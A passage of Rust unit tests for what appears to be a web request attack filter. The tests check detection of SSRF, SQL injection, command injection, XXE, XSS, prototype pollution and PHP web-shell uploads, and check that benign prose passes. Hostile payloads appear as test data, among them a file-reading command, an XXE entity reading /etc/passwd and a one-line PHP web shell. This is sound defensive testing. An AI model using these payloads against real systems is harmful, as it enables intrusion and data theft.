            "{v:?}"
        );
    }

    #[test]
    fn a_path_is_read_across_its_slashes_from_the_first_segment_that_is_not_plain() {
        assert_eq!(
            tails_across_segments("/proxy/http://127.1/admin"),
            [Some("http://127.1/admin"), Some("proxy/http://127.1/admin")]
        );
        assert_eq!(
            tails_across_segments("/files/select/**/password/**/from/**/users"),
            [
                Some("**/password/**/from/**/users"),
                Some("select/**/password/**/from/**/users")
            ]
        );
        assert_eq!(
            tails_across_segments("/run/%3Bcat%20/etc/passwd"),
            [
                Some("%3Bcat%20/etc/passwd"),
                Some("run/%3Bcat%20/etc/passwd")
            ]
        );
        // Plain segments, an escaped letter, or one odd segment at the end: nothing to join.
        for path in [
            "/api/v1/users/42/orders",
            "/wiki/Caf%C3%A9",
            "/docs/report%20(final).pdf",
            "/",
        ] {
            assert_eq!(tails_across_segments(path), [None, None], "{path}");
        }
        for uri in [
            "/proxy/http://169.254.169.254/latest/meta-data/",
            "/files/1/**/union/**/select/**/1,2,3--",
            "/files/1'/**/or/**/'1'='1",
            "/run/%3Bcat%20/etc/passwd",
            "/files/'%20and%20count(/*)=1%20and%20'1'='1",
        ] {
            let v = head(uri, &[]);
            assert!(v.score >= 5, "{uri}: {v:?}");
        }
        for uri in [
            "/v1/models/gemini-pro:generateContent",
            "/files/My%20Documents/report%20(final).pdf",
            "/wiki/Rock_&_Roll/history",
            "/users/O'Brien/orders/1",
            "/files/*/x/*/y",
            "/static/**/app.js",
        ] {
            let v = head(uri, &[]);
            assert!(v.findings.is_empty(), "{uri}: {v:?}");
        }
    }

    #[test]
    fn server_scripts_are_recognised_by_their_last_extension() {
        for script in [
            "a.php",
            "a.php..",
            "fda.php5...",
            "dir/x.php907",
            "photo. php",
            "photo.php  ",
            "dangerous.phar",
            "x.PHTML",
            "index.jsp",
            "default.aspx",
            "\"quoted.php\"",
        ] {
            assert!(is_server_script(script), "{script}");
        }
        for file in [
            "photo.png",
            "safe.phpinfo",
            "notes.phtml987...",
            "php",
            "report.php.pdf",
            "cert.cer",
            "",
        ] {
            assert!(!is_server_script(file), "{file}");
        }
        assert!(names_an_upload("x-filename"));
        assert!(names_an_upload("x_file_name"));
        assert!(names_an_upload("x.filename"));
        assert!(!names_an_upload("x-file"));
    }

    #[tokio::test]
    async fn uploads_named_as_server_scripts_are_found() {
        let rule = "rce-server-script-upload";
        let v = head("/upload", &[("x-file-name", "shell.php5")]);
        assert!(v.findings.iter().any(|f| f.rule == rule), "{v:?}");
        let v = head("/upload", &[("x-file-name", "holiday.jpeg")]);
        assert!(v.findings.is_empty(), "{v:?}");
        let part = |file_name: &str| {
            format!(
                "--XyZ\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{file_name}\"\r\n\r\nGIF89a<?php system($_GET[c]); ?>\r\n--XyZ--\r\n"
            )
        };
        let v = body("multipart/form-data; boundary=XyZ", &part("cat. php"))
            .await
            .unwrap();
        assert!(
            v.findings
                .iter()
                .any(|f| f.rule == rule && f.location == Location::Body && f.name == "f"),
            "{v:?}"
        );
        let v = body("multipart/form-data; boundary=XyZ", &part("cat.gif"))
            .await
            .unwrap();
        assert!(!v.findings.iter().any(|f| f.rule == rule), "{v:?}");
    }

    #[tokio::test]
    async fn xml_values_are_inspected_and_declarations_are_not_markup() {
        let doc =
            r#"<?xml version="1.0"?><order note="&lt;svg onload=alert(1)&gt;"><id>1</id></order>"#;
        let v = body("application/xml", doc).await.unwrap();
        assert!(
            locations(&v).contains(&(Location::Body, "note".into())),
            "{v:?}"
        );
        let doc = r#"<?xml version="1.0"?><note><to>Tove</to><body>Don't forget me</body></note>"#;
        assert!(body("text/plain", doc).await.unwrap().findings.is_empty());
        let xxe = r#"<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>"#;
        let v = body("application/xml", xxe).await.unwrap();
        assert!(
            v.findings
                .iter()
                .any(|f| f.rule == "lfi-xml-external-entity")
        );
        assert!(matches!(
            body("application/xml", "<a><b></a>").await,
            Err(BodyError::Xml(_))
        ));
    }

    #[tokio::test]
    async fn text_that_is_json_is_read_value_by_value() {
        // As raw text, the apostrophe and `insert` read as SQL; as JSON, the value is prose.
        let message = r#"{"message": "I'd like to insert a new line between paragraphs"}"#;
        assert!(
            body("text/plain", message)
                .await
                .unwrap()
                .findings
                .is_empty()
        );
        assert!(
            !body("text/plain", r#"[1, "x' or 1=1--"]"#)
                .await
                .unwrap()
                .findings
                .is_empty()
        );
        // Not a whole document: read as text, where the attack is found all the same.
        let trailing = r#"{"q": "x"} <script>alert(1)</script>"#;
        assert!(
            !body("text/plain", trailing)
                .await
                .unwrap()
                .findings
                .is_empty()
        );
    }

    #[tokio::test]
    async fn a_parameter_that_is_json_is_read_value_by_value_under_its_name() {
        // GraphQL's `variables`, Slack's `payload`: read raw, the quotes around the apostrophe
        // and `insert` made SQL of prose.
        let prose = r#"{"msg": "I'd like to insert a new line between paragraphs"}"#;
        let encoded: String = form_urlencoded::byte_serialize(prose.as_bytes()).collect();
        assert!(
            head(&format!("/q?variables={encoded}"), &[])
                .findings
                .is_empty()
        );
        let form = format!("payload={encoded}");
        assert!(
            body("application/x-www-form-urlencoded", &form)
                .await
                .unwrap()
                .findings
                .is_empty()
        );
        let attack = r#"{"filter": {"name": "x' or '1'='1"}}"#;
        let encoded: String = form_urlencoded::byte_serialize(attack.as_bytes()).collect();
        let found = locations(&head(&format!("/q?variables={encoded}"), &[]));
        assert!(!found.is_empty());
        assert!(
            found
                .iter()
                .all(|l| *l == (Location::Query, "variables".into())),
            "{found:?}"
        );
        // Not a JSON document: read raw, as before.
        assert!(!head("/q?t=%7B%7B7*7%7D%7D", &[]).findings.is_empty());
    }

    #[tokio::test]
    async fn json_held_in_a_json_string_is_read_value_by_value() {
        // A chat's tool call holds its arguments as a JSON string.
        let call = |arguments: &str| {
            serde_json::json!({"messages": [{"role": "assistant", "tool_calls": [
                {"function": {"name": "search", "arguments": arguments}}
            ]}]})
            .to_string()
        };
        let prose = r#"{"query": "I'd like to insert a new line between paragraphs"}"#;
        let verdict = body("application/json", &call(prose)).await.unwrap();
        assert!(verdict.findings.is_empty(), "{verdict:?}");
        let attack = r#"{"query": "x' or '1'='1"}"#;
        let found = locations(&body("application/json", &call(attack)).await.unwrap());
        let name = "messages.tool_calls.function.arguments";
        assert!(!found.is_empty());
        assert!(
            found.iter().all(|l| *l == (Location::Body, name.into())),
            "{found:?}"
        );
        // Nested three deep and more, a string is read raw, where the attack is found too.
        let mut deep = attack.to_owned();
        for _ in 0..4 {
            deep = serde_json::to_string(&deep).unwrap();
        }
        assert!(
            !body("application/json", &call(&deep))
                .await
                .unwrap()
                .findings
                .is_empty()
        );
    }

    #[tokio::test]
    async fn constructor_prototype_keys_are_prototype_pollution() {
        let polluting = r#"{"a": {"constructor": {"prototype": {"isAdmin": true}}}}"#;
        let verdict = body("application/json", polluting).await.unwrap();
        assert!(
            verdict
                .findings
                .iter()
                .any(|f| f.rule == "node-prototype-pollution"),
            "{verdict:?}"
        );
        let benign = r#"{"constructor": "Object", "prototype": {"name": "x"}}"#;
        assert!(
            body("application/json", benign)
                .await
                .unwrap()
                .findings
                .is_empty()
        );
        let stage = r#"{"pipeline": [{"$lookup": {"from": "users"}}]}"#;
        assert!(
            !body("application/json", stage)
                .await
                .unwrap()
                .findings
                .is_empty()
        );
    }

    #[tokio::test]
    async fn a_json_like_body_is_read_up_to_its_first_value() {
        let inspect = |text: &'static str| async move {
            let mut verdict = Verdict::default();
            inspect_body(
                &AttackFilter::new(),
                &FilterPolicy::default(),
                &BodyKind::JsonLike,
                &Bytes::from_static(text.as_bytes()),
                &mut verdict,
            )
            .await
            .unwrap();
            locations(&verdict)
        };
        let found = inspect(" {\"q\": \"<script>alert(1)</script>\"} \u{0}\u{1}binary").await;
        assert!(!found.is_empty());
        assert!(
            found
                .iter()
                .all(|(location, name)| *location == Location::Body && name == "q"),
            "{found:?}"
        );
        // What follows the first value, and a body that is not JSON, are left unread.
        assert!(
            inspect("{\"q\": 1} <script>alert(1)</script>")
                .await
                .is_empty()
        );
        assert!(
            inspect("{' or 1=1-- <script>alert(1)</script>")
                .await
                .is_empty()
        );
        assert_eq!(first_json_value_end(b"[1, 2]xyz"), Some(6));
        assert_eq!(first_json_value_end(b"[1, 2"), None);
    }

    #[test]
    fn binary_types_are_not_read_as_text() {
        let mut headers = HeaderMap::new();
        headers.insert(header::CONTENT_TYPE, HeaderValue::from_static("image/png"));
        assert_eq!(BodyKind::of(&headers).unwrap(), None);
        headers.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("application/vnd.api+json; charset=utf-8"),
        );
        assert_eq!(BodyKind::of(&headers).unwrap(), Some(BodyKind::Json));
    }

    #[test]
    fn a_multipart_body_has_one_clear_boundary() {
        let kind = |content_type: &'static str| {
            let mut headers = HeaderMap::new();
            headers.insert(header::CONTENT_TYPE, HeaderValue::from_static(content_type));
            BodyKind::of(&headers)
        };
        let multipart = |boundary: &str, form| {
            Some(BodyKind::Multipart {
                boundary: boundary.into(),
                form,
            })
        };
        assert_eq!(
            kind("Multipart/Form-Data; BOUNDARY=\"a b\"").unwrap(),
            multipart("a b", true)
        );
        assert_eq!(
            kind("multipart/related; type=\"application/json\"; boundary=xyz").unwrap(),
            multipart("xyz", false)
        );
        for unclear in [
            "multipart/form-data",
            "multipart/form-data; boundary=",
            "multipart/form-data; boundary=a; boundary=b",
            "multipart/form-data ; boundary = a",
            "multipart/form-data; charset=utf-8, boundary=a",
        ] {
            assert!(kind(unclear).is_err(), "{unclear}");
        }
        let mut headers = HeaderMap::new();
        headers.append(header::CONTENT_TYPE, HeaderValue::from_static("image/png"));
        headers.append(
            header::CONTENT_TYPE,
            HeaderValue::from_static("application/x-www-form-urlencoded"),
        );
        assert!(BodyKind::of(&headers).is_err(), "two types");
        headers.insert(
            header::CONTENT_TYPE,
            HeaderValue::from_static("image/png, application/x-www-form-urlencoded"),
        );
        assert!(BodyKind::of(&headers).is_err(), "a list");
        for (content_type, read) in [
            (b"multipart/form-data; boundary=a\xff".as_slice(), true),
            (b"application/x-www-form-urlencoded; x=\xe9", true),
            (b"image/png; name=caf\xe9.png", false),
        ] {
            headers.insert(
                header::CONTENT_TYPE,
                HeaderValue::from_bytes(content_type).unwrap(),
            );
            match read {
                true => assert!(BodyKind::of(&headers).is_err()),
                false => assert_eq!(BodyKind::of(&headers).unwrap(), None),
            }
        }
    }

    #[test]
    fn charsets_other_than_utf8_and_latin1_are_not_readable() {
        for readable in [
            "application/x-www-form-urlencoded; charset=UTF-8",
            "text/plain; charset=\"iso-8859-1\"",
            "application/json",
        ] {
            assert!(declares_readable_charset(readable), "{readable}");
        }
        for unread in [
            "application/x-www-form-urlencoded; charset=ibm037",
            "application/json; charset=utf-16",
            "text/plain; charset=utf-8; charset=ibm500",
            "multipart/form-data; boundary=a; charset=utf-7",
        ] {
            assert!(!declares_readable_charset(unread), "{unread}");
        }
    }

    #[test]
    fn media_types_are_read_without_parameters_and_case() {
        assert_eq!(
            media_type_essence(" Application/JSON ; charset=UTF-8"),
            "application/json"
        );
        assert!(matches!(
            media_type_essence("text/plain;charset=utf-8"),
            Cow::Borrowed("text/plain")
        ));
        let mut headers = HeaderMap::new();
        headers.insert(header::CONTENT_TYPE, HeaderValue::from_static("Text/XML"));
        assert_eq!(BodyKind::of(&headers).unwrap(), Some(BodyKind::Xml));
    }
}
